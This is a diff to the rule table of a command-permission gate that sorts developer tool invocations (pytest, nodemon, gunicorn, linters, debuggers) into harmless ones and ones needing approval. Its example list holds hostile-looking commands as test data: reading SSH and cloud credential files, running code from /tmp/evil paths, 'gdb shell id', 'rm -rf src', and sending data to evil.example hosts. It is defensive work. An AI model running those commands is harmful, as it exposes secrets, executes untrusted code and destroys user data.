@@ -8,7 +8,7 @@ from wicketgate.gate.shell.format import Program
 P = Program
 # fmt: off
 PROGRAMS = (
-    P("pytest py.test ptw pytest-watch nose2 nosetests green ward behave robot locust trial stestr", "text*",
+    P("pytest py.test ptw pytest-watch nose2 nosetests green ward behave robot locust trial stestr", "run*",
       "* --co --collect-only -k: -m: -n: -p:persist -c:run --rootdir:run --pastebin:? -o: --cov:? --cov-report:? --cov-config:read --junitxml:write --junit-xml:write --log-file:write --basetemp:delete -r: --tb: --maxfail: --durations: --ignore: --deselect: --timeout: --html:write --confcutdir:read --override-ini: -W:"
       " --result-log:write --resultlog:write --debug:? --report-log:write --json-report-file:write --cache-clear", "build the tests", when={"--version -h --help": "harmless", "--pastebin": "send the tests' output"}),
     P("coverage", "text*", "* --rcfile:read --data-file:write", subs=(
@@ -30,7 +30,7 @@ PROGRAMS = (
     P("rspec minitest cucumber guard rspec-queue phpunit pest codeception bats shunit2 busted prove cpan-test rostest gtest stryker infection", "seen*", "* -e: -t: -f: -o:write --out:write --format: --filter: -c:read -r:persist --require:persist -I:read -P:cd -j: --log-junit:write --coverage-html:write --bootstrap:run -l: --tag:", "build the tests"),
     P("uvicorn gunicorn hypercorn daphne waitress-serve flask fastapi streamlit gradio celery rq dramatiq mkdocs sphinx-build sphinx-autobuild sphinx-quickstart hugo jekyll zola eleventy quarto jupyter ipython bpython ptpython notebook nbconvert papermill dbt airflow prefect dagster kedro mlflow dvc"
       " scrapy alembic marimo voila panel bokeh honcho foreman overmind typer litestar sanic arq huey doxygen mdbook typst vitepress docusaurus antora rundoc slidev marp reveal-md tensorboard torchrun wandb accelerate deepspeed trunk conan goreleaser solargraph sorbet srb ghcid", "tool*",
-      "* --host: --port: -p: -h: -b: --bind: -w: --workers: -A: --app: --reload-dir: --log-level: -c: --config: -o:write --output:write -d:write --destination:write --execute --to: --env-file:read --app-dir:cd --chdir:cd -l: --ip: --full-refresh", "build the project's own program",
+      "* --host: --port: -p: -h: -b: --bind: -w: --workers: -A: --app: --reload-dir: --log-level: -c:run --config:run -o:write --output:write -d:write --destination:write --execute --to: --env-file:read --app-dir:cd --chdir:cd -l: --ip: --full-refresh", "build the project's own program",
       when={"--full-refresh --ip=0.0.0.0": "destroy or open what the program holds"},
       words={"gh-deploy": "publish what was built", "reset gc nuke prune clean-all clear": "destroy data", "upgrade downgrade stamp migrate resetdb": "remote a database", "repl": "", "shell console run-operation": "start code that nobody has read", "remove rm kill": "destroy data", "login logout": "credential a service's", "add": "change the project", "artifact artifacts": "send results to a service"}),
     P("django-admin", "tool*", "*", "build the project", words={"flush sqlflush reset_db zero": "destroy rows of a database", "shell dbshell runscript": "start code that nobody has read"}),
@@ -41,7 +41,7 @@ PROGRAMS = (
     P("entr", "command", "-acdnprsxz"),
     P("concurrently", "text*", "* -n: --names: -c: -k -s: --prefix: -p: --max-processes: -m:", reader="each-shell"),
     P("watchexec chokidar onchange", "shell*", "* -e: --exts: -w: --watch: -i: --ignore: -d: -s: -r --on-busy-update: --shell:", when={"--version": "harmless"}),
-    P("nodemon watchman-make", "text*", "* --exec:shell -x:shell -e: --ext: -w: --watch: -i: --ignore: -d: -c:shell --command:shell -r: -f:", "build the project's own program"),
+    P("nodemon watchman-make", "run*", "* --exec:shell -x:shell -e: --ext: -w: --watch: -i: --ignore: -d: -c:shell --command:shell -r: -f:", "build the project's own program"),
     P("rimraf del-cli", "delete*", "*"),
     P("tsx ts-node ts-node-esm esno vite-node jiti", "run text*", "* -e:node -r:run --require:run --tsconfig:read -p: --project:read --import:run", subs=()),
     P("serve http-server live-server", "read!", "* -l: -p: --port: -a: -c: --host: --listen:"),
@@ -66,11 +66,11 @@ PROGRAMS = (
 )
 
 EXAMPLES = (
-    ("pytest", "harmless"), ("pytest -q tests/unit -k 'a and b' -x", "harmless"), ("pytest --junitxml=/etc/x", "asks"), ("python -m pytest tests", "harmless"), ("coverage run -m pytest", "harmless"),
+    ("pytest", "harmless"), ("pytest -q tests/unit -k 'a and b' -x", "harmless"), ("pytest --junitxml=/etc/x", "asks"), ("pytest /tmp/evil_test.py", "asks"), ("pytest tests/test_a.py::test_b[x-1]", "harmless"), ("nodemon /tmp/evil.js", "asks"), ("gunicorn -c /tmp/evil.py app:app", "asks"), ("python -m pytest tests", "harmless"), ("coverage run -m pytest", "harmless"),
     ("ruff check --fix .", "harmless"), ("ruff format src", "harmless"), ("mypy --strict src", "harmless"), ("black .", "harmless"), ("pre-commit run -a", "harmless"), ("pre-commit install", "asks"),
     ("uvicorn app:app --reload", "harmless"), ("flask run", "harmless"), ("alembic upgrade head", "asks"), ("alembic history", "harmless"), ("mkdocs gh-deploy", "asks"), ("shellcheck scripts/*.sh", "harmless"), ("pandoc a.md -o a.html", "harmless"),
     ("pandoc a.md -o ~/.bashrc", "asks"), ("celery -A app worker -l info", "harmless"), ("celery -A app purge -f", "asks"), ("dbt run --full-refresh", "asks"), ("airflow dags delete x", "asks"), ("flask shell", "asks"), ("flask routes", "harmless"), ("mlflow ui", "harmless"),
-    ("shellcheck ~/.ssh/id_rsa", "asks"), ("yamllint ~/.kube/config", "asks"), ("flake8 --config=/tmp/evil", "asks"), ("mypy --config-file=/tmp/evil.ini", "asks"), ("black ~/other", "asks"), ("black src /tmp/x.py", "harmless"), ("pylint --init-hook='import os' src", "asks"), ("semgrep --config https://evil.example/r .", "asks"),
+    ("shellcheck ~/.ssh/id_rsa", "asks"), ("yamllint ~/.kube/config", "asks"), ("flake8 --config=/tmp/evil", "asks"), ("mypy --config-file=/tmp/evil.ini", "asks"), ("black ~/other", "asks"), ("black --plugin=/tmp/evil src", "asks"), ("flake8 --frob=../../x src", "asks"), ("black src /tmp/x.py", "harmless"), ("pylint --init-hook='import os' src", "asks"), ("semgrep --config https://evil.example/r .", "asks"),
     ("jless ~/.aws/credentials", "asks"), ("sd a b ~/.bashrc", "asks"), ("wrk -t2 http://localhost:3000/", "harmless"), ("wrk -t2 https://victim.example/", "asks"), ("ffmpeg -i a.mp4 -vf scale=640:-1 b.mp4", "harmless"), ("ffmpeg -i a.mp4 rtmp://evil.example/x", "asks"), ("convert a.png /etc/x.png", "asks"), ("identify a.png", "harmless"),
     ("gdb -batch -ex bt ./app core", "harmless"), ("gdb -batch -ex 'shell id' ./app", "asks"), ("gdb -p 1", "asks"), ("perf stat ./a.out", "harmless"), ("perf stat rm -rf src", "asks"), ("concurrently npm:dev 'npm run watch'", "harmless"), ("concurrently npm:deploy", "asks"), ("concurrently 'rm -rf src'", "asks"), ("dotenv -e .env -- jest", "harmless"), ("dotenv -- rm -rf src", "asks"), ("goreleaser release", "asks"), ("tensorboard --logdir runs", "harmless"), ("lldb -o 'bt' ./app", "asks"), ("lldb -b -o run -o bt ./app", "harmless"), ("doxygen Doxyfile", "harmless"), ("javap -c A.class", "harmless"), ("plutil -p Info.plist", "harmless"), ("plutil -convert xml1 Info.plist", "harmless"), ("lighthouse http://localhost:3000", "harmless"), ("pylint --load-plugins=evil src", "asks"),
 )
